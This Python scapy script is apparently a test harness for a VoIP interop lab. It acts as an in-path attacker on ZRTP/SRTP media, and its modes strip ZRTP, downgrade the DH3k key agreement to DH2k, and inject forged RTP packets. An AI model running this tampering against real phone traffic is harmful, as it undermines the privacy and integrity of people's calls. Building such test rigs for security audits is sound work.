#!/usr/bin/python3
"""An in-path attacker on the media, for the interop lab (make_attack.sh):
run in the middle namespace with IP forwarding OFF, it forwards every IPv4 UDP datagram between
the two phones itself (they are routed through it) and tampers with them on the way. Not part of zaudit;
its only job is to make real stacks face a real attack, so that zaudit is judged on what the
stacks then do.

usage: media_mitm.py MODE IFACE_A IFACE_B CALLER_IP CALLEE_IP LOG
MODE:
  strip           drop every ZRTP packet (the phones never see each other's Hello)
  hello-downgrade in the caller's Hello, replace the key agreement type DH3k by DH2k (same length,
                  a weaker group) and recompute the packet's CRC-32C: the message no longer
                  matches the caller's a=zrtp-hash nor its own MAC
  inject-rtp      after the caller's 150th RTP packet to the callee, send the callee five forged
                  ones of the same SSRC with the next five sequence numbers and random payload
                  (the genuine packets of those numbers follow): what an attacker without the
                  keys can do to an SRTP call
Everything else (SIP goes to the proxy, not through here; RTP, STUN, RTCP) passes unchanged.
"""
import os
import socket
import sys

from scapy.all import IP, UDP, Ether, get_if_hwaddr, sniff  # Debian's python3-scapy

ZRTP_MAGIC = b"ZRTP"


def crc32c(data: bytes) -> int:
    """CRC-32C (Castagnoli, reflected polynomial 0x82F63B78), as RFC 6189 section 5 asks."""
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def zrtp_type(payload: bytes) -> bytes:
    """The 8-byte message type block of a ZRTP packet, or b'' for anything else."""
    if len(payload) < 28 or payload[0] != 0x10 or payload[4:8] != ZRTP_MAGIC:
        return b""
    if payload[12:14] != b"\x50\x5a":  # preamble 0x505a
        return b""
    return payload[16:24]


def with_crc(body: bytes) -> bytes:
    # Stored as the SCTP CRC is (RFC 3309): least significant byte first, as bzrtp, ZRTPCPP and
    # tshark have it.
    return body + crc32c(body).to_bytes(4, "little")


def downgrade_hello(payload: bytes) -> bytes:
    """DH3k -> DH2k in the Hello's key agreement list (RFC 6189 section 5.2), CRC recomputed."""
    body = bytearray(payload[:-4])
    # Hello: header 12, preamble/length 4, type 8, version 4, client id 16, H3 32, ZID 12, then
    # one word of flags and counts (hc, cc, ac, kc, sc), then the algorithm lists.
    counts = 12 + 4 + 8 + 4 + 16 + 32 + 12
    word = int.from_bytes(body[counts:counts + 4], "big")
    hc, cc, ac, kc = (word >> 16) & 0xF, (word >> 12) & 0xF, (word >> 8) & 0xF, (word >> 4) & 0xF
    first_kc = counts + 4 + 4 * (hc + cc + ac)
    changed = False
    for i in range(kc):
        at = first_kc + 4 * i
        if body[at:at + 4] == b"DH3k":
            body[at:at + 4] = b"DH2k"
            changed = True
    if not changed:
        return payload
    return with_crc(bytes(body))


def is_rtp(payload: bytes) -> bool:
    """RTP version 2 and not RTCP (payload types 72-76 with the marker bit: RFC 5761)."""
    return len(payload) >= 12 and payload[0] >> 6 == 2 and not 72 <= payload[1] <= 76 and not 200 <= payload[1] <= 204


def forge_next(genuine: bytes, count: int):
    """Packets of the genuine one's SSRC with the next sequence numbers and timestamps, random
    bytes after the 12-byte header (no CSRC or extension kept: the forger has no key anyway)."""
    sequence = int.from_bytes(genuine[2:4], "big")
    timestamp = int.from_bytes(genuine[4:8], "big")
    for i in range(1, count + 1):
        header = bytes([0x80, genuine[1] & 0x7F]) + ((sequence + i) & 0xFFFF).to_bytes(2, "big")
        header += ((timestamp + 160 * i) & 0xFFFFFFFF).to_bytes(4, "big") + genuine[8:12]
        yield header + os.urandom(len(genuine) - 12)


def main():
    mode, iface_a, iface_b, caller, callee, log_path = sys.argv[1:]
    edits = {"hello-downgrade": downgrade_hello}
    if mode not in ("strip", "inject-rtp") and mode not in edits:
        sys.exit(f"media_mitm: unknown mode {mode}")
    own_macs = {get_if_hwaddr(iface_a), get_if_hwaddr(iface_b)}
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    log = open(log_path, "w", buffering=1)
    rtp_to_callee = [0]

    def handle(frame):
        if Ether not in frame or frame[Ether].src in own_macs or IP not in frame or UDP not in frame:
            return  # our own transmissions, or not the phones' UDP
        ip = frame[IP]
        if {ip.src, ip.dst} != {caller, callee}:
            return  # SIP to and from the proxy on this host: the kernel's business
        payload = bytes(frame[UDP].payload)
        kind = zrtp_type(payload)
        if kind:
            if mode == "strip":
                log.write(f"dropped {kind.decode(errors='replace').strip()} {ip.src} -> {ip.dst}\n")
                return
            if mode in edits and kind == b"Hello   " and ip.src == caller:
                tampered = edits[mode](payload)
                if tampered != payload:
                    log.write(f"{mode}: rewrote Hello {ip.src} -> {ip.dst}\n")
                    ip[UDP].remove_payload()
                    ip[UDP].add_payload(tampered)
                    del ip[UDP].chksum
                    del ip[UDP].len
                    del ip.len
                    del ip.chksum
        out.sendto(bytes(ip), (ip.dst, 0))
        if mode == "inject-rtp" and not kind and ip.src == caller and is_rtp(payload):
            rtp_to_callee[0] += 1
            if rtp_to_callee[0] == 150:
                for forged in forge_next(payload, 5):
                    log.write(f"injected RTP ssrc {forged[8:12].hex()} seq {int.from_bytes(forged[2:4], 'big')}"
                              f" {ip.src} -> {ip.dst}\n")
                    packet = IP(src=ip.src, dst=ip.dst, ttl=ip.ttl) / UDP(sport=ip[UDP].sport, dport=ip[UDP].dport)
                    out.sendto(bytes(packet / forged), (ip.dst, 0))

    sniff(iface=[iface_a, iface_b], filter="udp", prn=handle, store=False)


if __name__ == "__main__":
    main()
